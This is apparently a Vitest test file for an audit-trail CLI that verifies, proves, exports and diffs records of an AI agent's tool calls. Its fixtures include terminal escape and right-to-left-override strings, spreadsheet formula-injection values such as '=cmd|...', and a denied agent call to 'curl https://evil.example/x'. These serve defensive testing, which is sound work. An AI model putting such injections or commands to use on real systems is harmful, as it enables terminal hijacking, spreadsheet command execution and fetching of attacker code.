import { execFileSync, spawnSync } from 'node:child_process';
import { link, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  ATTESTATION_FILE,
  parseStatement,
  STATEMENT_ATTESTATION_FILE,
  STATEMENT_FILE,
  statementAt,
  type TrailEvent,
} from '../../../../src/audit/index.ts';
import { MerkleTree } from '../../../../src/audit/verify/merkle.ts';
import { sha256 } from '../../../../src/common/index.ts';
import { asked, runEnd, runStart, state, verdict, wholeRun } from '../../../audit/events.ts';
import { chainEvents } from '../../../audit/chained.ts';
import { plausible, realRun } from '../../../audit/plausible.ts';
import { program } from '../../../programs.ts';
import { cli } from '../../command.ts';
import { bundleFor, tempFolder, trailOf, workflowKey } from '../../trails.ts';
import { hasOpenssl } from '../../../certificate.ts';

/** What a terminal would obey: a title, a colour, a reversed text, a bell. */
const EVIL = '\u001b]0;taken\u0007\u001b[31mred \u202Egpj.exe\u0085';
const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
const HOSTILE = [
  runStart({ request: EVIL }),
  state('c1', 'PENDING', {
    'gen_ai.tool.name': EVIL,
    'gen_ai.tool.call.arguments': { path: EVIL, [EVIL]: '=1+1' },
  }),
  verdict('c1', 'deny', { because: EVIL, rule: EVIL }),
  state('c1', 'DENIED', { because: `=cmd|${EVIL}` }),
  runEnd('denied'),
];

describe('audit verify', () => {
  it('says of a whole trail that it is intact and unsigned, for a folder and for its file', async () => {
    const { folder, file, head } = await trailOf();
    for (const place of [folder, file]) {
      const { code, out } = await cli([
        'audit',
        'verify',
        place,
        '--head',
        head.toUpperCase(),
        '--require-end',
      ]);
      expect({ code, out }).toMatchObject({
        code: 0,
        out: expect.stringMatching(/^intact: 29 entries/) as string,
      });
      expect(out).toContain('unsigned: it contains the published head hash');
      const { out: alone } = await cli(['audit', 'verify', place]);
      expect(alone).toContain('unsigned: compare the head');
      expect(alone.includes('not checked: what lies beside the file')).toBe(place === file);
      expect(out).toContain(`head ${head}`);
      expect(out).not.toContain('root');
    }
  });

  it('shows a name that has newlines on one line, so that it adds no line to the result', async () => {
    const run = `run-1, outcome done\nhead ${'a'.repeat(64)}\nsigned: by octo/repo`;
    const folder = await tempFolder();
    const lines = chainEvents(plausible([runStart(), runEnd('cancelled')]).events, run);
    await writeFile(join(folder, 'audit.jsonl'), lines.map((line) => `${line}\n`).join(''));
    for (const command of ['verify', 'show']) {
      const { out } = await cli(['audit', command, folder]);
      expect(out).toContain(`run-1, outcome done head ${'a'.repeat(64)} signed: by octo/repo`);
      expect(out).not.toMatch(/^(?:head a|signed)/m);
    }
  });

  it('gives programs the whole verdict, with the root where it is asked for', async () => {
    const { folder, lines, head } = await trailOf();
    const { code, out } = await cli(['audit', 'verify', folder, '--json', '--root']);
    const tree = new MerkleTree();
    for (const line of lines) tree.add((JSON.parse(line) as { hash: string }).hash);
    expect(code).toBe(0);
    expect(JSON.parse(out)).toMatchObject({
      kind: 'intact',
      head,
      root: tree.root(),
      signed: false,
      attestation: { kind: 'unsigned' },
      outcome: 'done',
    });
  });

  it('names the first broken entry, and exits with 1', async () => {
    const { folder, file, lines } = await trailOf();
    await writeFile(
      file,
      lines
        .map((line, index) => `${index === 4 ? line.replace('"auto"', '"deny"') : line}\n`)
        .join(''),
    );
    expect(await cli(['audit', 'verify', folder])).toMatchObject({
      code: 1,
      out: expect.stringMatching(/^broken at entry 4 \(line 5\): hash-mismatch/) as string,
    });
    const { code, out } = await cli(['audit', 'verify', folder, '--json']);
    expect(code).toBe(1);
    expect(JSON.parse(out)).toMatchObject({
      kind: 'broken',
      seq: 4,
      line: 5,
      code: 'hash-mismatch',
    });
  });

  it('finds truncation by a head or by the missing end, and another run by its name', async () => {
    const { folder, file, lines, head } = await trailOf();
    await writeFile(
      file,
      lines
        .slice(0, -1)
        .map((line) => `${line}\n`)
        .join(''),
    );
    expect(await cli(['audit', 'verify', folder])).toMatchObject({
      code: 0,
      out: expect.stringContaining('unfinished') as string,
    });
    for (const args of [['--head', head], ['--require-end'], ['--run', 'run-another']]) {
      expect(await cli(['audit', 'verify', folder, ...args])).toMatchObject({ code: 1 });
    }
  });

  it('compares the files in the folder with their digests, and waits for none of them', async () => {
    const patch = 'diff --git a/a b/a\n';
    const saved: TrailEvent = {
      type: 'changes.saved',
      name: 'changes.patch',
      sha256: sha256(patch),
      bytes: patch.length,
      base: 'a'.repeat(40),
      files: 1,
      leftOut: [],
    };
    const { folder } = await trailOf([...realRun().slice(0, -1), saved, ...realRun().slice(-1)]);
    const verified = async () => await cli(['audit', 'verify', folder]);
    expect(await verified()).toMatchObject({
      code: 1,
      out: expect.stringContaining('file-missing: The file changes.patch is missing.') as string,
    });
    await writeFile(join(folder, 'changes.patch'), patch);
    expect(await verified()).toMatchObject({ code: 0 });
    await mkdir(join(folder, 'blobs'));
    await writeFile(join(folder, 'blobs', sha256('one')), 'another');
    expect((await verified()).out).toContain('blob-changed');
    await rm(join(folder, 'blobs'), { recursive: true });
    await writeFile(join(folder, 'changes.patch'), `${patch} `);
    expect((await verified()).out).toContain('file-changed');
    await rm(join(folder, 'changes.patch'));
    execFileSync('mkfifo', [join(folder, 'changes.patch')]);
    expect((await verified()).out).toContain('file-missing');
  });

  it('exits with 2 for what cannot be read, and for a head that is none', async () => {
    const folder = await tempFolder();
    expect(await cli(['audit', 'verify', folder])).toMatchObject({
      code: 2,
      out: expect.stringMatching(/^unreadable/) as string,
    });
    expect(await cli(['audit', 'verify', join(folder, 'none')])).toMatchObject({ code: 2 });
    const fifo = join(folder, 'fifo');
    execFileSync('mkfifo', [fifo]);
    expect(await cli(['audit', 'verify', fifo])).toMatchObject({
      code: 2,
      out: expect.stringContaining('not a regular file') as string,
    });
    const withFifo = await tempFolder();
    execFileSync('mkfifo', [join(withFifo, 'audit.jsonl')]);
    expect(await cli(['audit', 'verify', withFifo])).toMatchObject({
      code: 2,
      out: expect.stringContaining('not a regular file') as string,
    });
    const { folder: whole } = await trailOf();
    expect(await cli(['audit', 'verify', whole, '--head', 'abc'])).toMatchObject({
      code: 2,
      err: expect.stringContaining('64') as string,
    });
  });
});

describe.skipIf(!hasOpenssl)(
  'audit verify of an attested trail (needs openssl to make a certificate)',
  () => {
    it('says who signed exactly this file, and what it did not check', async () => {
      const { folder, file } = await trailOf();
      await writeFile(
        join(folder, ATTESTATION_FILE),
        JSON.stringify(bundleFor(await readFile(file), workflowKey())),
      );
      const { code, out } = await cli(['audit', 'verify', folder, '--require-attestation']);
      expect(code).toBe(0);
      expect(out).toContain(
        'signed: by https://github.com/octo/repo/.github/workflows/agent.yml@refs/heads/main',
      );
      expect(out).toContain('nobody-intermediate');
      expect(out).toContain('gh attestation verify');
      expect(out).not.toContain('unsigned');
    });

    it('calls an attestation of a statement that the entries do not make broken', async () => {
      const { folder, file } = await trailOf();
      const [key, bytes] = [workflowKey(), await readFile(file)];
      const { statement } = await statementAt(folder);
      const path = join(folder, STATEMENT_ATTESTATION_FILE);
      await writeFile(path, JSON.stringify(bundleFor(bytes, key, statement ?? {})));
      expect(await cli(['audit', 'verify', folder])).toMatchObject({ code: 0 });
      await writeFile(path, JSON.stringify(bundleFor(bytes, key)));
      expect(await cli(['audit', 'verify', folder])).toMatchObject({
        code: 1,
        out: expect.stringContaining('says what no entry says') as string,
      });
    });

    it('calls an attestation of another file, by another key, or of no form at all broken', async () => {
      const { folder, file } = await trailOf();
      const [key, other] = [workflowKey(), workflowKey()];
      const bytes = await readFile(file);
      const swapped = { key: other.key, certificate: key.certificate };
      const bundles = [bundleFor(Buffer.from('another'), key), bundleFor(bytes, swapped), { a: 1 }];
      for (const bundle of bundles) {
        await writeFile(join(folder, ATTESTATION_FILE), JSON.stringify(bundle));
        expect(await cli(['audit', 'verify', folder])).toMatchObject({
          code: 1,
          out: expect.stringContaining('attestation') as string,
        });
      }
    });
  },
);

it('audit verify --require-attestation refuses an unsigned trail', async () => {
  const { folder } = await trailOf();
  expect(await cli(['audit', 'verify', folder, '--require-attestation'])).toMatchObject({
    code: 1,
    out: expect.stringContaining('not attested') as string,
  });
});

describe('audit show, report and export', () => {
  it('shows the timeline, who allowed what, and that nothing was verified', async () => {
    const { folder } = await trailOf();
    const { code, out } = await cli(['audit', 'show', folder]);
    expect(code).toBe(0);
    for (const part of [
      'RUN fresh on octo/repo',
      'c2 APPROVAL_REQUIRED',
      'approve by @hubot',
      'END done',
      'audit verify',
    ]) {
      expect(out).toContain(part);
    }
  });

  it('lets nothing that others wrote act on a terminal, in any command and form', async () => {
    const { folder, file } = await trailOf(HOSTILE);
    const { folder: other } = await trailOf();
    const commands = [
      ['audit', 'show', folder],
      ['audit', 'show', folder, '--json'],
      ['audit', 'verify', folder],
      ['audit', 'diff', folder, other],
      ['audit', 'diff', folder, other, '--json'],
      ['audit', 'prove', '1', file],
      ['audit', 'export', folder, '--format', 'csv'],
      ['audit', 'export', folder, '--format', 'otlp'],
      ['audit', 'export', folder, '--format', 'sarif'],
      ['audit', 'report', folder, '--out', '-'],
      ['audit', 'statement', folder, '--out', '-'],
    ];
    for (const args of commands) {
      const { out, err } = await cli(args);
      expect(`${out}${err}`.replaceAll('\r\n', '\n'), args.join(' ')).not.toMatch(OBEYED);
    }
  });

  it('writes the statement of an intact trail, which then verifies beside it', async () => {
    const { folder, file } = await trailOf();
    const out = join(folder, STATEMENT_FILE);
    expect(await cli(['audit', 'statement', folder, '--out', out])).toMatchObject({ code: 0 });
    expect(parseStatement(await readFile(out, 'utf8')).subject[0]?.digest.sha256).toBe(
      sha256(await readFile(file)),
    );
    expect(await cli(['audit', 'verify', folder])).toMatchObject({ code: 0 });
    await writeFile(
      out,
      (await readFile(out, 'utf8')).replace('"outcome":"done"', '"outcome":"denied"'),
    );
    const verified = await cli(['audit', 'verify', folder, '--json']);
    expect(verified.code).toBe(1);
    expect(JSON.parse(verified.out)).toMatchObject({
      kind: 'broken',
      code: 'statement-mismatch',
      // The seq beyond the last entry: no entry is wrong.
      seq: (await readFile(file, 'utf8')).split('\n').length - 1,
    });
  });

  it('writes no statement of a broken trail, and says where it is broken', async () => {
    const { folder, file } = await trailOf();
    await writeFile(file, (await readFile(file, 'utf8')).replace('Fix the bug', 'Fix a bug'));
    const cwd = await tempFolder();
    const { code, err } = await cli(['audit', 'statement', folder], { cwd });
    expect({ code, err }).toMatchObject({
      code: 1,
      err: expect.stringContaining('broken at entry 0'),
    });
    await expect(readFile(join(cwd, STATEMENT_FILE))).rejects.toThrow('ENOENT');
  });

  it('writes the report to the named file', async () => {
    const { folder } = await trailOf();
    const cwd = await tempFolder();
    expect(await cli(['audit', 'report', folder], { cwd })).toMatchObject({ code: 0 });
    const page = await readFile(join(cwd, 'report.html'), 'utf8');
    expect(page).toContain('Content-Security-Policy');
    expect(page).toContain('Fix the bug.');
    const { code, out } = await cli(['audit', 'report', folder, '--out', 'b.html', '--json'], {
      cwd,
    });
    expect({ code, ...(JSON.parse(out) as object) }).toMatchObject({
      code: 0,
      file: join(cwd, 'b.html'),
    });
  });

  it('leaves no part of a report that cannot be written whole', async () => {
    const { folder } = await trailOf();
    const cwd = await tempFolder();
    // A file of at most 1,024 bytes, as on a disk that is full.
    const line = `ulimit -f 1; exec "$0" "${program('command-line')}" audit report "${folder}" --out b.html`;
    const { status, stderr } = spawnSync('bash', ['-c', line, process.execPath], {
      cwd,
      encoding: 'utf8',
    });
    expect({ status, stderr }).toMatchObject({
      status: 2,
      stderr: expect.stringMatching(/b\.html cannot be written: .*--out/s) as string,
    });
    await expect(readFile(join(cwd, 'b.html'))).rejects.toThrow('ENOENT');
  });

  it('says which file of a report cannot be opened, and removes nothing that was there', async () => {
    const { folder, file } = await trailOf();
    const cwd = await tempFolder();
    await symlink('gone/b.html', join(cwd, 'link'));
    for (const out of [join(file, 'b.html'), 'link', 'gone/b.html', cwd]) {
      expect(await cli(['audit', 'report', folder, '--out', out], { cwd })).toMatchObject({
        code: 2,
        err: expect.stringMatching(
          / cannot be written: .* Name another file with --out\./,
        ) as string,
      });
    }
    expect(await readdir(cwd)).toEqual(['link']);
  });

  it('never writes what it makes of an audit trail over the audit trail', async () => {
    const { folder, file } = await trailOf();
    const cwd = await tempFolder();
    const before = await readFile(file, 'utf8');
    await symlink(file, join(cwd, 'link'));
    await link(file, join(cwd, 'hard-link'));
    for (const command of [['report'], ['export'], ['statement'], ['prove', '1']])
      for (const trail of [folder, file])
        for (const out of [file, 'link', 'hard-link']) {
          const args = ['audit', ...command, trail, '--out', out];
          expect(await cli(args, { cwd }), args.join(' ')).toMatchObject({
            code: 2,
            out: '',
            err: expect.stringContaining('is the audit trail itself.') as string,
          });
        }
    expect(await readFile(file, 'utf8')).toBe(before);
  });

  it('prints nothing but JSON with --json: HTML and CSV need a file then', async () => {
    const { folder } = await trailOf();
    const cwd = await tempFolder();
    const csv = ['audit', 'export', folder, '--format', 'csv', '--json'];
    for (const args of [
      csv,
      [...csv, '--out', '-'],
      ['audit', 'report', folder, '--out', '-', '--json'],
    ])
      expect(await cli(args), args.join(' ')).toMatchObject({
        code: 2,
        out: '',
        err: expect.stringContaining('Name a file with --out, or leave --json out.') as string,
      });
    const { code, out } = await cli([...csv, '--out', 'calls.csv'], { cwd });
    expect({ code, ...(JSON.parse(out) as object) }).toMatchObject({
      code: 0,
      file: join(cwd, 'calls.csv'),
    });
  });

  it('exports OTLP, CSV and SARIF, and knows no other format', async () => {
    const { folder } = await trailOf();
    const otlp = JSON.parse((await cli(['audit', 'export', folder])).out) as {
      resourceSpans: unknown[];
    };
    expect(otlp.resourceSpans).toHaveLength(1);
    const csv = (await cli(['audit', 'export', folder, '--format', 'csv'])).out.split('\r\n');
    expect(csv).toHaveLength(6);
    expect(csv[0]).toMatch(/^run,call,seq/);
    const sarif = JSON.parse((await cli(['audit', 'export', folder, '--format', 'sarif'])).out) as {
      version: string;
    };
    expect(sarif.version).toBe('2.1.0');
    expect(await cli(['audit', 'export', folder, '--format', 'xml'])).toMatchObject({ code: 2 });
  });

  it('shows nothing of a trail whose chain does not hold as if it did', async () => {
    const { folder, file, lines } = await trailOf();
    await writeFile(
      file,
      lines.map((line, index) => `${index === 9 ? line.replace('c2', 'c9') : line}\n`).join(''),
    );
    for (const args of [['show'], ['report', '--out', '-'], ['export']]) {
      expect(await cli(['audit', args[0] ?? '', folder, ...args.slice(1)]), args[0]).toMatchObject({
        code: 1,
        out: '',
        err: expect.stringContaining('broken at line 10') as string,
      });
    }
  });
});

describe('an audit trail without an entry', () => {
  it.each([
    [['audit', 'show']],
    [['audit', 'report']],
    [['audit', 'export']],
    [['audit', 'statement']],
    [['audit', 'prove', '0']],
    [['policy', 'replay']],
  ])('is refused by %j', async (command) => {
    const folder = await tempFolder();
    await writeFile(join(folder, 'audit.jsonl'), '');
    const { code, out, err } = await cli([...command, folder]);
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(err).toMatch(/no entries|is empty/);
    expect(await readdir(folder)).toEqual(['audit.jsonl']);
  });

  it('is refused if its only line is truncated', async () => {
    const folder = await tempFolder();
    await writeFile(join(folder, 'audit.jsonl'), '{"_schema":');
    const { code, err } = await cli(['audit', 'show', folder]);
    expect({ code, err }).toMatchObject({
      code: 2,
      err: expect.stringContaining('no entries') as string,
    });
  });

  it('is shown and exported without a truncated last line, of which standard error says so once', async () => {
    const { folder, file, lines } = await trailOf();
    const last = `${lines.at(-1)}`.slice(0, 99);
    await writeFile(file, `${lines.slice(0, -1).join('\n')}\n${last}`);
    const warning = `warning: The last line of ${folder} is truncated (99 bytes without a newline)`;
    for (const command of [
      ['audit', 'show'],
      ['audit', 'show', '--json'],
      ['audit', 'export'],
      ['audit', 'report', '--out', '-'],
    ]) {
      const { code, out, err } = await cli([...command, folder]);
      expect({ code, command }).toEqual({ code: 0, command });
      expect(out).not.toBe('');
      expect(err.split(warning)).toHaveLength(2);
    }
    const whole = await trailOf();
    expect((await cli(['audit', 'diff', whole.folder, folder])).err).toContain(warning);
    expect((await cli(['audit', 'show', whole.folder])).err).toBe('');
  });

  it('of a run that has ended, with bytes after its end, may have been changed, as the warning says', async () => {
    const { folder, file, lines } = await trailOf();
    await writeFile(file, `${lines.join('\n')}\n{"half`);
    const { code, err } = await cli(['audit', 'show', folder]);
    expect(code).toBe(0);
    expect(err).toContain(
      'is truncated (6 bytes without a newline) and left out: the run is still running, it crashed, or the file was changed.',
    );
  });

  it('is not compared', async () => {
    const folder = await tempFolder();
    await writeFile(join(folder, 'audit.jsonl'), '');
    const { code, err } = await cli(['audit', 'diff', (await trailOf()).folder, folder]);
    expect({ code, err }).toMatchObject({
      code: 2,
      err: expect.stringContaining(folder) as string,
    });
  });
});

describe('audit prove and check-proof', () => {
  it('proves each entry by itself, and the proof holds without the trail', async () => {
    const { folder } = await trailOf();
    const root = (
      JSON.parse((await cli(['audit', 'verify', folder, '--root', '--json'])).out) as {
        root: string;
      }
    ).root;
    for (const seq of ['0', '13', '21']) {
      const { code, out } = await cli(['audit', 'prove', seq, folder]);
      expect(code).toBe(0);
      const checked = await cli(['audit', 'check-proof', '-', '--root', root], { stdin: out });
      expect(checked).toMatchObject({
        code: 0,
        out: expect.stringContaining(`valid: entry ${seq} under the root ${root}\n`) as string,
      });
    }
  });

  it('states no number of entries, because the path of a proof can fit several', async () => {
    const { folder } = await trailOf();
    const { out } = await cli(['audit', 'prove', '3', folder]);
    const stdin = out.replace('"count": 29', '"count": 30');
    const checked = await cli(['audit', 'check-proof', '-'], { stdin });
    expect(checked.code).toBe(0);
    expect(checked.out).not.toMatch(/\b(?:29|30)\b/);
  });

  it('refuses a proof with another entry, another path, or another root', async () => {
    const { folder } = await trailOf();
    const { out } = await cli(['audit', 'prove', '12', folder]);
    const bad = [
      out.replace('hubot', 'mallo'),
      out.replace('"left"', '"right"'),
      out.replace('"seq": 12', '"seq": 11'),
      '{}',
      'x',
    ];
    for (const stdin of bad)
      expect(await cli(['audit', 'check-proof', '-'], { stdin }), stdin).toMatchObject({ code: 1 });
    const other = await cli(['audit', 'check-proof', '-', '--root', 'a'.repeat(64)], {
      stdin: out,
    });
    expect(other).toMatchObject({
      code: 1,
      out: expect.stringContaining('is not the given one') as string,
    });
    expect((await cli(['audit', 'check-proof', '-'], { stdin: out })).out).toContain(
      'was not compared',
    );
  });

  it('says where the root of an audit trail is from, if the given one is none', async () => {
    const given = ['audit', 'check-proof', '-', '--root', 'abc'];
    expect(await cli(given, { stdin: '{}' })).toMatchObject({
      code: 2,
      err: expect.stringContaining(
        '"abc" is not a Merkle root. Write the 64 hexadecimal digits that `audit verify TRAIL --root` prints.',
      ) as string,
    });
  });

  it('writes a proof to the file that is named, and says which it cannot', async () => {
    const { folder } = await trailOf();
    const file = join(folder, 'proof.json');
    expect(await cli(['audit', 'prove', '3', folder, '--out', file])).toMatchObject({ code: 0 });
    expect((await cli(['audit', 'check-proof', file])).code).toBe(0);
    expect(await cli(['audit', 'prove', '3', folder, '--out', folder])).toMatchObject({
      code: 2,
      err: expect.stringContaining('cannot be written') as string,
    });
  });

  it('has no proof of an entry that is not there', async () => {
    const { folder } = await trailOf();
    for (const seq of ['29', '-1', 'x'])
      expect(await cli(['audit', 'prove', '--', seq, folder])).toMatchObject({ code: 2 });
  });
});

describe('audit diff', () => {
  it('says what two runs did differently, and that the same run did the same', async () => {
    const a = await trailOf();
    const command = {
      'gen_ai.tool.name': 'bash_run',
      'gen_ai.tool.call.arguments': { command: 'curl https://evil.example/x' },
    };
    const b = await trailOf([
      ...wholeRun().slice(0, -1),
      state('c4', 'PENDING', command),
      verdict('c4', 'requireApproval'),
      state('c4', 'APPROVAL_REQUIRED'),
      asked('c4'),
      state('c4', 'DENIED'),
      runEnd('denied'),
    ]);
    expect(await cli(['audit', 'diff', a.folder, a.file])).toMatchObject({
      code: 0,
      out: expect.stringContaining('the same') as string,
    });
    const { code, out } = await cli(['audit', 'diff', a.folder, b.folder]);
    expect(code).toBe(1);
    for (const part of [
      'outcome: done | denied',
      '0 | 1  bash_run',
      '0 | 1  evil.example',
      '0 | 1  curl https://evil.example/x',
    ]) {
      expect(out).toContain(part);
    }
  });
});
